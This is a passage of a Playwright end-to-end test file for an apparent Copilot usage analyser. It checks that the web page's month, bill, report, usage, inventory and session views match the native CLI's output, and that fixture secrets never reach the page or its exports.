    // The home folder (directory entries) and the report beside it, in one drop.
    await page.evaluate(({ list, report }) => {
      const bytesOf = (b64) => Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
      const tree = { name: 'home', dirs: new Map(), files: [] };
      for (const f of list) {
        const parts = f.path.split('/');
        let node = tree;
        for (const part of parts.slice(0, -1)) {
          if (!node.dirs.has(part)) node.dirs.set(part, { name: part, dirs: new Map(), files: [] });
          node = node.dirs.get(part);
        }
        node.files.push(new File([bytesOf(f.b64)], parts[parts.length - 1]));
      }
      const dirEntry = (node) => ({
        name: node.name,
        isDirectory: true,
        isFile: false,
        createReader() {
          let given = false;
          const all = [...[...node.dirs.values()].map(dirEntry), ...node.files.map((file) => ({ name: file.name, isFile: true, isDirectory: false, file: (ok) => ok(file) }))];
          return { readEntries: (ok) => setTimeout(() => ok(given ? [] : ((given = true), all))) };
        },
      });
      const bill = new File([bytesOf(report)], 'ai-credits.csv', { type: 'text/csv' });
      const dataTransfer = {
        items: [
          { kind: 'file', webkitGetAsEntry: () => dirEntry(tree), getAsFile: () => null },
          { kind: 'file', webkitGetAsEntry: () => ({ isDirectory: false, isFile: true, name: bill.name }), getAsFile: () => bill },
        ],
        files: [],
      };
      const event = new Event('drop', { bubbles: true, cancelable: true });
      Object.defineProperty(event, 'dataTransfer', { value: dataTransfer });
      document.getElementById('drop-zone').dispatchEvent(event);
    }, { list: files, report: csv });
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the dropped folder is analysed');
    await showView(page, 'month');
    const shown = await billShown(page, 1);
    const deep = (value) => (Array.isArray(value) ? value.map(deep) : value && typeof value === 'object' ? sortKeys(Object.fromEntries(Object.entries(value).map(([k, v]) => [k, deep(v)]))) : value);
    assertEqual(deep(shown), deep(native), "the Month view's reconciliation equals the native usage --bill");
    const differs = await page.$$eval('#month-differs li', (items) => items.map((li) => li.textContent));
    assertEqual(differs.length, native.rows.filter((r) => r.status !== 'matched').length, 'every day and model that differs is named');
    assert(differs[0].startsWith('2026-10-08 gpt-5.4-mini: billed 132.00'), `the largest difference first: ${differs[0]}`);
    assert(differs[0].endsWith('(GitHub billed more)'), `its status in words, not billed_more: ${differs[0]}`);
    assertEqual(await page.textContent('#month-bill-headline'), native.headline, "the bill's headline, as the native one");
    const statuses = await page.$$eval('.month-bill-rows tbody tr td:last-child', (cells) => cells.map((cell) => cell.textContent));
    assert(statuses.includes("only on GitHub's bill") && statuses.includes('matches') && !statuses.some((status) => status.includes('_')), `the table's statuses in words: ${statuses}`);
    assert((await page.textContent('#month-never')).includes('the coding agent, code review and Spark'), 'what is never in local files');
    // No allowance typed: the seat's quota in the report is the month's, and the view says so.
    await page.waitForSelector('#month-quota');
    assertEqual(native.monthly_quota, 1900, "the report's total_monthly_quota, natively");
    assertEqual((await monthShown(page)).month.allowance, 1900, "the month against the report's quota");
    assert((await page.textContent('#month-quota')).startsWith("Allowance: 1,900.00 credits, your seat's monthly quota in GitHub's report"), 'said so');
    await page.waitForFunction(() => window.Chart && window.Chart.getChart(document.querySelector('#chart-bill')));
    await page.waitForTimeout(150);
    await shot(page, 'month-bill.png');
    // A second report added afterwards: both are reconciled together, nothing analysed again.
    await page.setInputFiles('#month-bill-input', path.join(bills, 'transition.csv'));
    assertEqual(deep(await billShown(page, 2)), deep(both), 'two reports, as the native --bill twice');
    // The result is brought to where the person looks, not left below the control.
    await page.waitForFunction(() => Math.abs(document.getElementById('month-bill').getBoundingClientRect().top) < 2);
    assertEqual(await page.textContent('#month-bill-files'), `loaded: ${both.file}`, 'the reports loaded are named beside the control, which is empty again');
    // On a phone the bill's tables fit the screen: a card per row, no sideways scrolling.
    await page.setViewportSize({ width: 390, height: 844 });
    await page.waitForTimeout(200);
    await assertFits(page, 'the bill on a phone');
    const billTables = await page.$$eval('#month-bill table.cards', (tables) => tables.map((table) => [table.className, table.scrollWidth, table.parentElement.clientWidth]));
    assert(billTables.length >= 2 && billTables.every(([, wide, box]) => wide <= box), `each bill table fits its box: ${JSON.stringify(billTables)}`);
    await shot(page, 'phone-month-bill.png');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'bill');
    return `billed ${shown.totals.billed_credits}, here ${shown.totals.local_credits}, ${differs.length} differences`;
  } finally {
    await browser.close();
  }
});

test('every view says the Month view\'s figure for a month: on the demo, the Usage view over November, the Overview over the demo\'s one month, the Sessions view\'s sessions added up', async () => {
  const browser = await launch();
  try {
    const origin = server.url.replace(/\/$/, '');
    const { page, net, errors } = await openPage(browser, `${origin}/?today=2026-11-30`, origin);
    await markLoaded(net);
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error'], 300_000), 'done', 'the demo is analysed');
    await showView(page, 'month');
    await page.waitForSelector('#month-tiles');
    const month = JSON.parse(await page.evaluate(() => document.getElementById('view-month').dataset.month));
    await showView(page, 'usage');
    await page.fill('#usage-since', `${month.month}-01`);
    await page.dispatchEvent('#usage-since', 'change');
    await page.fill('#usage-until', `${month.month}-${String(month.days_in_month).padStart(2, '0')}`);
    await page.dispatchEvent('#usage-until', 'change');
    await page.waitForFunction((m) => {
      const shown = document.getElementById('usage-credits-used');
      return shown && document.getElementById('usage-since').value === `${m}-01` && shown.dataset.credits;
    }, month.month);
    await page.waitForTimeout(400);
    const usage = Number(await page.$eval('#usage-credits-used', (p) => p.dataset.credits));
    assertEqual(usage, Math.round(month.used * 100) / 100, "the Usage view's credits used over the month equal the Month view's");
    await showView(page, 'overview');
    const overview = await page.$eval('#view-overview .tile[data-metric="credits_used"]', (t) => Number(t.dataset.value));
    const demoMonths = nativeUsage(DEMO, ['--by', 'month']).rows.map((r) => r.month);
    if (new Set(demoMonths).size === 1) assertEqual(overview, Math.round(month.used * 100) / 100, "the Overview's credits used equal the Month's (the demo's one month)");
    else assert(overview >= Math.round(month.used * 100) / 100, "the Overview's credits used hold the month's");
    // The Sessions view's credits, session by session, add up to the Overview's (the same rule).
    await showView(page, 'sessions');
    await page.waitForSelector('#view-sessions td.c-credits');
    const cells = await page.$$eval('#view-sessions td.c-credits', (tds) => tds.map((cell) => Number(cell.dataset.credits)));
    const sessions = cells.reduce((sum, credits) => sum + credits, 0);
    // Each session's figure is to the hundredth: their sum may be off by half a hundredth each.
    assert(Math.abs(sessions - overview) <= 0.005 * cells.length + 0.005, `the Sessions view's credits (${sessions}) add up to the Overview's (${overview})`);
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'demo', ['/demo/copilot-demo.zip']);
    return `November: ${month.used} credits in the Month, ${usage} in Usage, ${overview} in the Overview, ${sessions.toFixed(2)} over the Sessions`;
  } finally {
    await browser.close();
  }
});

test('the report to share: the page writes the bytes the native report writes; from file://, offline and with scripts off, it shows the native usage figures; no secret of a chosen transcript is in it', async () => {
  const fixture = path.join(ROOT, 'fixtures/credits/08-allowance-runout');
  execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['analyze', fixture, '--out', path.join(TMP, 'report-cli')], { stdio: 'ignore' });
  const chosen = JSON.parse(readFileSync(path.join(TMP, 'report-cli/sessions.jsonl'), 'utf8').split('\n')[0]).session_id;
  const nativeReport = path.join(TMP, 'native-report.html');
  execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['report', fixture, '--out', nativeReport, '--today', '2026-11-05', '--allowance', '1500', '--short-project-names', '--session', chosen], { stdio: 'ignore' });
  const usage = nativeUsage(fixture, []);
  const browser = await launch();
  let saved;
  try {
    const origin = server.url.replace(/\/$/, '');
    const { page, net, errors } = await openPage(browser, `${origin}/?today=2026-11-05`, origin);
    await markLoaded(net);
    await pick(page, fixture);
    await showView(page, 'month');
    await page.waitForSelector('#month-tiles');
    await setAllowance(page, '1500');
    await showView(page, 'exports');
    await page.check('#report-short-names');
    await page.selectOption('#report-sessions', [chosen]);
    const file = await download(page, () => page.click('#make-report'));
    assertEqual(file.name, 'copilot-report-2026-11.html', 'the file named by its period');
    assertEqual(file.text, readFileSync(nativeReport, 'utf8'), 'the page writes the native report, byte for byte');
    assert((await page.textContent('#export-status')).includes('1 transcript'), 'the status says a transcript went in');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'report');
    saved = path.join(TMP, 'shared-report.html');
    writeFileSync(saved, file.text);
  } finally {
    await browser.close();
  }
  const offline = await launch({ scripts: false, offline: true });
  try {
    const page = await offline.context.newPage();
    const requests = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.goto(`file://${saved}`);
    const figure = (id) => page.textContent(`[data-figure="${id}"]`);
    const total = usage.grand_total;
    assertEqual(await figure('tokens'), total.total.toLocaleString('en-US'), 'tokens as the native usage total');
    assertEqual(await figure('credits'), total.credits.toLocaleString('en-US', { minimumFractionDigits: 2 }), 'credits as the native usage total');
    assertEqual(await figure('cost_usd'), usage.credits_used.usd.toFixed(2), 'dollars: the credits used × 0.01');
    assertEqual(await figure('month_runs_out'), '2026-11-13', 'the run-out day against 1500 (EXPECTED.md)');
    assertEqual(await page.$$eval('svg.chart', (charts) => charts.length), 3, 'three charts drawn without scripts');
    assertEqual(await page.$$eval('script', (scripts) => scripts.length), 0, 'nothing in it needs a script');
    assertEqual(requests.filter((url) => !url.startsWith('file://')), [], 'the report fetches nothing');
    await page.setViewportSize({ width: 1100, height: 1000 });
    await page.screenshot({ path: path.join(SHOTS, 'shared-report.png'), fullPage: true, clip: { x: 0, y: 0, width: 1100, height: 2600 } });
    return `report.html of ${readFileSync(saved).length} bytes equals the native one; from file:// with scripts off: ${await figure('tokens')} tokens, ${await figure('credits')} credits, runs out ${await figure('month_runs_out')}`;
  } finally {
    await offline.close();
  }
});

test('the month view of the demo equals the native usage --allowance month; top sessions and models by credits; the usage table shows credits as the native one', async () => {
  const byMonth = nativeUsage(DEMO, ['--by', 'month']);
  const months = [...new Set(byMonth.rows.map((r) => r.month))].sort().reverse();
  const browser = await launch();
  try {
    const origin = server.url.replace(/\/$/, '');
    const { page, net, errors } = await openPage(browser, server.url, origin);
    await markLoaded(net);
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the demo is analysed');
    // Both the page and the CLI take today from the clock (UTC).
    const today = new Date().toISOString().slice(0, 10);
    await showView(page, 'month');
    await page.waitForSelector('#month-tiles');
    let shown = await monthShown(page);
    const todayMonth = today.slice(0, 7);
    assertEqual(shown.options, [...new Set([todayMonth, ...months])].sort().reverse(), "the months with usage, as the native --by month, and today's");
    // Today's month (UTC) once it has usage, else the latest month with usage, as the native report picks.
    const want = months.includes(todayMonth) ? todayMonth : months[0];
    assertEqual([shown.selected, shown.month.month], [want, want], "today's month (UTC) if it has usage, else the latest with usage");
    const allowance = Math.max(1, Math.round(shown.month.used / 2));
    await setAllowance(page, String(allowance));
    shown = await monthShown(page);
    const cli = nativeUsage(DEMO, ['--allowance', String(allowance), '--until', `${want}-01`]).month;
    const sorted = (m) => ({ ...sortKeys(m), days: m.days.map(sortKeys), by_agent: m.by_agent.map(sortKeys) });
    assertEqual(sorted(shown.month), sorted(cli), `the page's month equals the native usage --allowance ${allowance} --until ${want}-01`);
    assertEqual(shown.tiles.used.text, new Intl.NumberFormat('en-US', { minimumFractionDigits: 2, maximumFractionDigits: 2 }).format(cli.used), 'used as shown');

    // The top models: the native rows of the month by model, the agents added up.
    const first = `${want}-01`;
    const last = `${want}-${String(cli.days_in_month).padStart(2, '0')}`;
    const modelRows = nativeUsage(DEMO, ['--by', 'model', '--since', first, '--until', last]).rows;
    const perModel = new Map();
    for (const r of modelRows) {
      const g = perModel.get(r.model) || { credits: 0, from: new Set() };
      g.credits += r.credits || 0;
      g.from.add(r.credits_from);
      perModel.set(r.model, g);
    }
    const top = [...perModel].sort((a, b) => b[1].credits - a[1].credits).slice(0, 5);
    assertEqual(shown.models.map((r) => r[0]), top.map(([model]) => model), 'the top models by credits, as the native rows');
    for (const [i, [model, g]] of top.entries()) {
      const text = shown.models[i][1];
      assertEqual(text.startsWith('~'), !(g.from.size === 1 && g.from.has('recorded')), `${model}: ~ where estimated`);
      assert(Math.abs(Number(text.replace(/[~,]/g, '')) - g.credits) <= 0.011 * modelRows.length, `${model}: ${text} credits, natively ${g.credits}`);
    }
    assert(shown.sessions.length > 0 && shown.sessions.length <= 5, 'up to five sessions');
    const sessionCredits = shown.sessions.map((r) => Number(r[2].replace(/[~,]/g, '')));
    assertEqual(sessionCredits, [...sessionCredits].sort((a, b) => b - a), 'sessions by credits, most first');
    await page.waitForFunction(() => window.Chart && window.Chart.getChart(document.querySelector('#chart-month')));
    await page.waitForTimeout(150);
    await shot(page, 'demo-month-view.png');

    // The usage table: credits, as the native table shows them.
    await showView(page, 'usage');
    await page.selectOption('#usage-by', 'model');
    const usage = nativeUsage(DEMO, ['--by', 'model']);
    await page.waitForFunction(() => [...document.querySelectorAll('#view-usage h2')].some((e) => e.textContent === 'Usage by model'));
    const headers = await page.$$eval('#view-usage .usage-table thead th', (ths) => ths.map((th) => th.textContent));
    assertEqual(headers.slice(0, 3), ['model', 'credits', 'requests'], 'credits second, read first (on a phone too)');
    assert(!headers.some((header) => /cost|usd/i.test(header)), `one money figure: credits, no token-rate cost beside them: ${headers}`);
    const credits = await page.$$eval('#view-usage .usage-table tbody tr', (trs) => trs.map((tr) => tr.children[1].textContent));
    assert(credits.length > 0 && credits.every((c) => c === '—' || /^~?\d{1,3}(,\d{3})*\.\d\d$/.test(c)), `credits as the CLI shows them: ${credits.join(' ')}`);
    assert(usage.rows.some((r) => r.credits_from !== 'recorded') === credits.some((c) => c.startsWith('~')), 'the ~ marker where the native rows are estimated');
    // Days in a named zone: the page gives the engine the zone's offsets from the browser's Intl
    // (the WebAssembly build carries no zone database), the CLI takes them from chrono-tz.
    const zone = 'America/Los_Angeles';
    const nativeZoned = nativeUsageCsv(DEMO, zone);
    await page.evaluate((zone) => {
      const select = document.getElementById('opt-timezone');
      select.appendChild(new Option(zone, zone));
      select.value = zone;
      document.getElementById('rerun').click();
    }, zone);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', `analysed again in ${zone}`);
    const pageZoned = await exportFile(page, 'usage.csv');
    assert(pageZoned.text !== nativeUsageCsv(DEMO, 'UTC'), `${zone}: some day differs from UTC's`);
    assertEqual(pageZoned.text, nativeZoned, `${zone}: usage.csv equals the native --timezone ${zone} one`);
    assertEqual(errors, [], 'no page errors');
    return `month ${want}: used ${cli.used.toFixed(2)} (recorded ${cli.recorded.toFixed(2)}, estimated ${cli.estimated.toFixed(2)}), projected ${cli.projected}, allowance ${allowance} runs out ${cli.runs_out_on}; top model ${top[0][0]}`;
  } finally {
    await browser.close();
  }
});

// ---- the inventory (issue 14) ---------------------------------------------------------------

const INVENTORY = path.join(ROOT, 'fixtures/inventory/home');
const SECRETS = path.join(ROOT, 'fixtures/inventory/SECRETS.txt');

/**
 * The inventory fixture copied into TMP (still a folder named `home`), each file with its own
 * whole-second modification time: the page hands the engine the times the core asks for, and
 * the inventory's `modified` shows whether each went to its file.
 */
function inventoryHome() {
  const home = path.join(TMP, 'inventory/home');
  for (const [i, rel] of filesUnder(INVENTORY).entries()) {
    const target = path.join(home, rel);
    mkdirSync(path.dirname(target), { recursive: true });
    writeFileSync(target, readFileSync(path.join(INVENTORY, rel)));
    const seconds = Date.UTC(2026, 8, 1, 7) / 1000 + 2 * i;
    utimesSync(target, seconds, seconds);
  }
  return home;
}

/** A verdict as the inventory view words it: its own words for two, else its name spaced out. */
const verdictWords = (verdict) => ({ used_not_configured: 'used; no configuration found here', used_not_found: 'used; not found here' })[verdict] || verdict.replaceAll('_', ' ');
// A last use as the page shows it in UTC, a dash for none.
const utcShown = (iso) => (iso ? iso.replace('T', ' ').replace(/\.\d+Z$/, '') : '—');

/** Every agent part of an inventory.json, in order: {home, agent: the part}. */
const inventoryParts = (inventory) => inventory.homes.flatMap((home) => home.agents.map((agent) => ({ home: home.home, agent })));

/**
 * What the inventory view shows, part by part: each section card's title and rows, a row's
 * cells by column label, and the tools of a server's "tools used" row below it.
 */
async function inventoryShown(page) {
  return page.evaluate(() =>
    [...document.querySelectorAll('#view-inventory .inv-part')].map((part) => ({
      home: part.dataset.home,
      agent: part.dataset.agent,
      none: part.querySelector('.inv-none')?.textContent ?? '',
      sections: Object.fromEntries(
        [...part.querySelectorAll('section.card[data-section]')].map((card) => {
          const table = card.querySelector('table');
          const labels = [...table.querySelectorAll(':scope > thead th')].map((th) => th.textContent);
          const rows = [...table.querySelectorAll(':scope > tbody > tr:not(.tools-used)')].map((tr) => {
            const tools = tr.nextElementSibling && tr.nextElementSibling.matches('.tools-used') ? tr.nextElementSibling : null;
            return {
              id: tr.dataset.id,
              text: tr.textContent + (tools ? tools.textContent : ''),
              cells: Object.fromEntries([...tr.children].map((td, i) => [labels[i], td.textContent])),
              titles: Object.fromEntries([...tr.children].map((td, i) => [labels[i], td.querySelector('[title]')?.title ?? ''])),
              tools: tools ? [...tools.querySelectorAll('tr[data-tool]')].map((t) => [...t.children].map((td) => td.textContent)) : [],
            };
          });
          return [card.dataset.section, { title: card.querySelector('h2').textContent, rows }];
        }),
      ),
    })),
  );
}

/** The secrets of SECRETS.txt and, by that file's rule, every 12-character piece of each. */
function secretPieces() {
  const secrets = readFileSync(SECRETS, 'utf8').split('\n').filter((line) => line && !line.startsWith('#'));
  const pieces = new Set();
  for (const secret of secrets) {
    if (secret.length <= 12) pieces.add(secret);
    for (let at = 0; at + 12 <= secret.length; at++) pieces.add(secret.slice(at, at + 12));
  }
  return { secrets, pieces: [...pieces] };
}

test('the inventory fixture: the inventory view and the session view show what the native inventory.json and sessions.jsonl say; filters; those exports and the team exports byte for byte', async () => {
  const home = inventoryHome();
  const expected = native(home, { byName: true });
  const inventory = JSON.parse(expected.inventoryJson);
  const parts = inventoryParts(inventory);
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await pick(page, home);
    await checkNumbers(page, expected, 'inventory fixture');
    assertEqual((await exportFile(page, 'inventory.json')).text, expected.inventoryJson, 'inventory.json equals the native one byte for byte');
    assertEqual((await exportFile(page, 'sessions.jsonl')).text, expected.sessionsJsonl, 'sessions.jsonl equals the native one byte for byte');
    // The team exports: the CLI's bytes at the time the page wrote in them (the login from the
    // home's logs; the machine the picked folder's name, as the CLI names the same folder).
    for (const what of ['team.csv', 'team.jsonl']) {
      const team = await exportFile(page, what);
      assert(team.text.includes('mona'), `${what} names the login`);
      assertEqual(team.text, nativeTeamExport(home, what, exportedAtOf(team.text)), `${what} equals the native usage --export, byte for byte`);
    }

    await showView(page, 'inventory');
    const shown = await inventoryShown(page);
    assertEqual(shown.map((p) => [p.home, p.agent]), parts.map((p) => [p.home, p.agent.agent]), 'one part per home and agent');
    const compared = { servers: {}, skills: {}, agents: {} };
    for (const [i, { agent }] of parts.entries()) {
      const part = shown[i];
      const label = `${part.home} ${part.agent}`;
      const rowsOf = (key, list) => {
        if (!list.length) {
          assertEqual(part.sections[key], undefined, `${label}: no ${key} card when there are none`);
          return new Map();
        }
        const card = part.sections[key];
        assert(card && card.title.endsWith(`(${fmtInt(list.length)})`), `${label}: ${key}'s heading counts ${list.length}: ${card && card.title}`);
        assertEqual(card.rows.length, list.length, `${label}: one ${key} row each`);
        return new Map(card.rows.map((row) => [row.id, row]));
      };
      const servers = rowsOf('mcp_servers', agent.mcp_servers);
      for (const m of agent.mcp_servers) {
        const row = servers.get(m.name);
        assert(row, `${label}: server ${m.name} shown`);
        assertEqual(
          row.cells,
          {
            server: m.name,
            type: m.type,
            'command or host': m.command || m.url_host,
            'allowed tools': m.tools ? m.tools.join(', ') : '—',
            'args · env · headers': `${m.args} · ${m.env} · ${m.headers}`,
            'configured in': m.configured_in.join(''),
            plugin: m.plugin || '',
            calls: fmtInt(m.calls),
            failures: fmtInt(m.failures),
            'last used': utcShown(m.last_used),
            connected: fmtInt(m.connected),
            'failed starts': fmtInt(m.failed_to_start),
            verdict: verdictWords(m.verdict),
            'tools used': m.tools_used.length === 1 ? '1 tool' : m.tools_used.length ? `${m.tools_used.length} tools` : '',
          },
          `${label}: server ${m.name} as inventory.json has it`,
        );
        assertEqual(row.tools, m.tools_used.map((t) => [t.name, fmtInt(t.calls), fmtInt(t.failures)]), `${label}: ${m.name}'s tools used, with calls and failures`);
        compared.servers[m.name] = { calls: m.calls, failures: m.failures, failed_to_start: m.failed_to_start, connected: m.connected, verdict: m.verdict, tools_used: m.tools_used.map((t) => `${t.name} ${t.calls}/${t.failures}`) };
      }
      const skills = rowsOf('skills', agent.skills);
      for (const s of agent.skills) {
        const row = skills.get(s.name);
        assert(row, `${label}: skill ${s.name} shown`);
        const { skill, description, from, plugin, invocations, verdict } = row.cells;
        assertEqual(
          { skill, description, from, plugin, invocations, by_person: row.cells['by the person'], by_model: row.cells['by the model'], verdict },
          { skill: s.name, description: s.description, from: s.path || '—', plugin: s.plugin || '', invocations: fmtInt(s.invocations), by_person: fmtInt(s.by_person), by_model: fmtInt(s.by_model), verdict: verdictWords(s.verdict) },
          `${label}: skill ${s.name} as inventory.json has it`,
        );
        compared.skills[s.name] = { invocations: s.invocations, by_person: s.by_person, by_model: s.by_model, verdict: s.verdict };
      }
      const customAgents = rowsOf('custom_agents', agent.custom_agents);
      for (const a of agent.custom_agents) {
        const row = customAgents.get(a.name);
        assert(row, `${label}: custom agent ${a.name} shown`);
        assertEqual([row.cells.description, row.cells.file, row.cells.plugin, row.cells.uses], [a.description, a.path, a.plugin || '', fmtInt(a.uses)], `${label}: custom agent ${a.name}`);
        compared.agents[a.name] = a.uses;
      }
      const instructions = rowsOf('instructions', agent.instructions);
      for (const file of agent.instructions) {
        assertEqual(instructions.get(file.path)?.cells['first line'], file.first_line, `${label}: ${file.path}'s first line, and only that`);
      }
      const plugins = rowsOf('plugins', agent.plugins);
      for (const p of agent.plugins) {
        const row = plugins.get(p.name);
        assert(row, `${label}: plugin ${p.name} shown`);
        const bringing = [...p.skills.map((n) => `skill ${n}`), ...p.custom_agents.map((n) => `agent ${n}`), ...p.mcp_servers.map((n) => `MCP server ${n}`)].join('');
        assertEqual([row.cells.plugin, row.cells.version, row.cells.brings], [p.name + p.path, p.version, bringing], `${label}: plugin ${p.name}, its version and what it brings`);
      }
      for (const key of ['projects', 'scratch_directories', 'models', 'tools', 'accounts']) rowsOf(key, agent[key]);
      // A grant in words (`command: npm test`), its entry as the file has it in the title.
      const grantsCard = part.sections.permission_grants;
      rowsOf('permission_grants', agent.permission_grants);
      if (grantsCard) {
        assertEqual(grantsCard.rows.map((row) => [row.cells.grant, row.titles.grant]), agent.permission_grants.map((g) => [g.words, g.entry]), `${label}: each grant in words, its entry as its title`);
        compared.grants = agent.permission_grants.map((g) => g.words);
      }
    }
    // What the fixture is for: each kind is there (the counts above are against the CLI).
    const all = (key) => parts.flatMap((p) => p.agent[key]);
    assert(all('mcp_servers').some((m) => m.failed_to_start > 0), 'a server that failed to start');
    assert(all('mcp_servers').some((m) => m.plugin) && all('skills').some((s) => s.plugin), 'a plugin that brings a skill and a server');
    assert(all('skills').some((s) => s.by_person > 0 && s.by_model > 0), 'a skill used by both the person and the model');
    await page.waitForTimeout(150);
    await shot(page, 'inventory-view.png');
    const toggles = await page.$$('#view-inventory .tools-toggle');
    for (const toggle of toggles) await toggle.click();
    assertEqual(await page.$$eval('#view-inventory tr.tools-used:not([hidden])', (rows) => rows.length), toggles.length, "each server's tools shown on demand");
    await shot(page, 'inventory-tools-used.png');
    // What these views add passes axe-core, in both themes.
    const accessibility = [];
    const checkAccessibility = async (within, what) => {
      for (const scheme of ['light', 'dark']) {
        await page.emulateMedia({ colorScheme: scheme });
        for (const problem of await accessibilityProblems(page, within)) accessibility.push({ where: `${scheme} ${what}`, ...problem });
      }
      await page.emulateMedia({ colorScheme: 'light' });
    };
    await checkAccessibility('#view-inventory', 'inventory');
    await page.emulateMedia({ colorScheme: 'dark' });
    await shot(page, 'inventory-view-dark.png');
    await page.emulateMedia({ colorScheme: 'light' });

    // The verdict filters offer the verdicts the data holds; each keeps what has it.
    const idsShown = async (key) => (await inventoryShown(page)).flatMap((p) => (p.sections[key] ? p.sections[key].rows.map((r) => r.id) : []));
    const serverOptions = await page.$$eval('#inv-server-verdict option', (options) => options.map((o) => o.value).filter(Boolean));
    const serverVerdicts = [...new Set(all('mcp_servers').map((m) => m.verdict))].sort();
    assertEqual(serverOptions, [...serverVerdicts, 'any_failed_start'], 'the servers by verdict, and those that ever failed to start');
    for (const value of serverOptions) {
      await page.selectOption('#inv-server-verdict', value);
      const want = all('mcp_servers').filter((m) => (value === 'any_failed_start' ? m.failed_to_start > 0 : m.verdict === value)).map((m) => m.name);
      assertEqual(await idsShown('mcp_servers'), want, `servers: ${value}`);
      if (value === 'configured_never_used') await shot(page, 'inventory-never-used.png');
    }
    await page.selectOption('#inv-server-verdict', '');
    const skillOptions = await page.$$eval('#inv-skill-verdict option', (options) => options.map((o) => o.value).filter(Boolean));
    assertEqual(skillOptions, [...new Set(all('skills').map((s) => s.verdict))].sort(), 'the skills by verdict');
    for (const value of skillOptions) {
      await page.selectOption('#inv-skill-verdict', value);
      assertEqual(await idsShown('skills'), all('skills').filter((s) => s.verdict === value).map((s) => s.name), `skills: ${value}`);
      assertEqual(await idsShown('mcp_servers'), all('mcp_servers').map((m) => m.name), `skills: ${value} leaves the servers be`);
    }
    await page.selectOption('#inv-skill-verdict', '');
    // The text filter: a plugin's name keeps what mentions it, and says how many of how many.
    const needle = all('plugins')[0].name;
    await page.fill('#inv-filter', needle);
    const filtered = await inventoryShown(page);
    const rows = filtered.flatMap((p) => Object.values(p.sections).flatMap((s) => s.rows));
    assert(rows.length > 0 && rows.every((row) => row.text.toLowerCase().includes(needle.toLowerCase())), `every row shown mentions ${needle}`);
    assert(filtered.some((p) => p.sections.plugins?.rows.some((r) => r.id === needle)), `the plugin ${needle} is shown`);
    assert(rows.length < all('mcp_servers').length + all('skills').length + all('plugins').length + all('custom_agents').length + all('instructions').length, 'the filter leaves some out');
    await shot(page, 'inventory-text-filter.png');
    await page.fill('#inv-filter', '');

    // The session view: artifacts, checkpoints, the pre-created mark, the plan on demand.
    const marked = expected.sessions.filter((s) => s.plan !== null || s.artifacts.length || s.checkpoint_titles.length || s.precreated_unused);
    assert(marked.some((s) => s.plan !== null) && marked.some((s) => s.artifacts.length) && marked.some((s) => s.checkpoint_titles.length) && marked.some((s) => s.precreated_unused), 'the fixture has a plan, artifacts, checkpoints and a pre-created session');
    await showView(page, 'sessions');
    const listed = await page.$$eval('#session-list tbody tr', (trs) => Object.fromEntries(trs.map((tr) => [tr.dataset.session, tr.lastElementChild.textContent])));
    for (const s of expected.sessions) assertEqual(listed[s.session_id].includes('empty session'), s.precreated_unused, `${s.session_id}: the list marks a pre-created session, and only that`);
    let planShot = false;
    for (const s of marked) {
      await page.click(`#session-list tbody tr[data-session="${s.session_id}"] button.link`);
      await page.waitForSelector(`#transcript[data-loaded="${s.session_id}"]`);
      const head = await page.evaluate(() => ({
        artifacts: [...document.querySelectorAll('#session-artifacts li')].map((li) => li.textContent),
        checkpoints: [...document.querySelectorAll('#session-checkpoints li')].map((li) => li.textContent),
        precreated: Boolean(document.getElementById('session-precreated')),
        plan: document.getElementById('session-plan') && { open: document.getElementById('session-plan').open, text: document.querySelector('#session-plan pre').textContent },
      }));
      assertEqual(head.artifacts, s.artifacts, `${s.session_id}: the artifacts' names`);
      assertEqual(head.checkpoints, s.checkpoint_titles, `${s.session_id}: the checkpoints' titles`);
      assertEqual(head.precreated, s.precreated_unused, `${s.session_id}: marked as an empty session`);
      assertEqual(head.plan, s.plan === null ? null : { open: false, text: s.plan }, `${s.session_id}: the plan, folded until asked for`);
      if (s.precreated_unused) await shot(page, 'inventory-session-precreated.png', false);
      if (s.plan !== null && !planShot) {
        await page.click('#session-plan summary');
        await shot(page, 'inventory-session-plan.png');
        await checkAccessibility('#transcript .transcript-head', 'session with its plan');
        planShot = true;
      }
      if (s.precreated_unused) await checkAccessibility('#transcript .transcript-head', 'pre-created session');
      await page.click('#transcript-back');
    }
    assertEqual(accessibility, [], 'no serious or critical accessibility problem in the inventory and session views');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'inventory');
    return `${parts.length} parts; ${JSON.stringify(compared)}; ${marked.length} sessions with plan/artifacts/checkpoints/pre-created`;
  } finally {
    await browser.close();
  }
});

test('no secret of the inventory fixture reaches the page: not the DOM of any view, not an export, not a message of the worker', async () => {
  const { secrets, pieces } = secretPieces();
  const browser = await launch();
  try {
    // Every message a worker posts to the page, kept as it came (cloned, so that nothing the
    // page later transfers empties it), from before the page's own scripts make the workers.
    const keepWorkerMessages = () => {
      window.__workerMessages = [];
      const PageWorker = window.Worker;
      window.Worker = class extends PageWorker {
        constructor(...args) {
          super(...args);
          this.addEventListener('message', (event) => window.__workerMessages.push(structuredClone(event.data)));
        }
      };
    };
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''), keepWorkerMessages);
    await markLoaded(net);
    const home = inventoryHome();
    await pick(page, home);
    const found = [];
    const scan = (where, text) => {
      for (const piece of pieces) if (text.includes(piece)) found.push(`${where}: ${piece}`);
    };
    // The scan sees a secret where there is one: in the configuration file it was planted in.
    scan('control', readFileSync(path.join(home, '.copilot/mcp-config.json'), 'utf8'));
    assert(found.length > 0 && found.every((f) => f.startsWith('control: ')), 'the scan finds the secrets planted in mcp-config.json');
    found.length = 0;
    const scanDom = async (where) => scan(`DOM after ${where}`, await page.evaluate(() => document.documentElement.outerHTML));

    // Every view, with everything folded opened; every session's transcript and plan.
    for (const view of VIEWS) {
      await showView(page, view);
      await page.$$eval(`#view-${view} details`, (all) => all.forEach((d) => (d.open = true)));
